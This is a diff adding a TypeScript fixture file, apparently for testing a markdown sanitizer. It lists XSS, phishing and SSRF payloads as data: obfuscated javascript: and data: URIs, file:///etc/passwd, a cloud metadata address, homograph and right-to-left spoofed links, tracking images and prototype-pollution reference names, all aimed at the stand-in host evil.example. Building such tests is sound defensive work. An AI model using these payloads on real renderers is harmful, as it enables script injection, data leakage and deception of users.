@@ -1,0 +1,78 @@
+/** Addresses that run something, leave the machine, or are not what they seem. */
+const ADDRESSES: readonly string[] = [
+  'javascript:pwned()',
+  'JaVaScRiPt:pwned()',
+  '&#106;avascript:pwned()',
+  'javascript&colon;pwned()',
+  'java&Tab;script:pwned()',
+  'java&#x0A;script:pwned()',
+  '&#1;javascript:pwned()',
+  'javascript%3Apwned()',
+  'javascript://evil.example/%0Apwned()',
+  'data:text/html,<script>pwned()</script>',
+  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
+  'data:image/svg+xml,<svg/onload=pwned()>',
+  'vbscript:msgbox(1)',
+  'view-source:https://evil.example/',
+  'blob:https://evil.example/0b0b0b0b',
+  'filesystem:https://evil.example/temporary/x',
+  'file:///etc/passwd',
+  'smb://evil.example/share',
+  'intent://evil.example#Intent;scheme=https;end',
+  'tel:+0190123456',
+  '//evil.example/x',
+  '/api/v1/keys',
+  'https://user:password@evil.example/',
+  'https://127.0.0.1:8855@evil.example/',
+];
+
+/** The ways in which markdown names an address. */
+const FORMS: readonly ((address: string) => string)[] = [
+  (address) => `[click](${address})`,
+  (address) => `[click](<${address}> "a title")`,
+  (address) => `[click][r]\n\n[r]: <${address}> 'a title'`,
+  (address) => `<${address}>`,
+  (address) => `![picture](${address})`,
+];
+
+/** Every address in every form. */
+export const LINKS: readonly string[] = ADDRESSES.flatMap((address) => FORMS.map((form) => form(address)));
+
+/** Links that show one thing and mean another, and images that would tell their host who reads. */
+export const LIES: readonly string[] = [
+  '[https://bank.example/login](https://evil.example/login)',
+  '[![](https://evil.example/p.png)](https://evil.example/)',
+  '[](https://evil.example/empty)',
+  '[\u202Emoc.knab\u202C](https://evil.example/rtl)',
+  '[bank](https://b\u0430nk.example/)',
+  '[bank](https://bank.example.evil.example/)',
+  '[bank](https://evil.example/?to=https://bank.example/)',
+  '[bank](https://bank.example\u2044login.evil.example/)',
+  '[settings](#/settings)',
+  '[delete](?action=delete#/keys)',
+  '[x](https://evil.example/ "onmouseover=pwned()")',
+  '[x](https://evil.example/"onmouseover="pwned())',
+  '[a [b](https://evil.example/1)](https://evil.example/2)',
+  '![](https://evil.example/track.png?who=me)',
+  '![x](https://evil.example/%s "title")',
+  '![x](//evil.example/protocol-relative.png)',
+  '![x](http://169.254.169.254/latest/meta-data)',
+  '![x](../../api/v1/generation?id=x)',
+  '![x](data:image/png;base64,iVBORw0KGgo=)',
+  '![x][i]\n\n[i]: https://evil.example/by-reference.png',
+  '![a ![b](https://evil.example/in.png)](https://evil.example/out.png)',
+  'https://evil.example/autolink',
+  'www.evil.example/autolink',
+  'http://evil.example/plain',
+  'mailto:victim@evil.example?body=secret',
+  'xmpp:victim@evil.example',
+  'someone@evil.example',
+  'https://evil.example/"><script>pwned()</script>',
+  'https://evil.example/<script>pwned()</script>',
+  '<https://evil.example/\u0000>',
+  'ftp://evil.example/x https://evil.example:99999/ https://[::1]/ https://evil.example\\@bank.example',
+  'text[^1]\n\n[^1]: <script>pwned()</script> ![x](https://evil.example/note.png)',
+  'text[^__proto__] text[^constructor]\n\n[^__proto__]: a\n\n[^constructor]: b',
+  '[__proto__] [constructor][] [toString][]\n\n[__proto__]: https://evil.example/a\n[constructor]: javascript:pwned()',
+  '[x]: javascript:pwned()\n\n[x] [X] [ẋ]',
+];
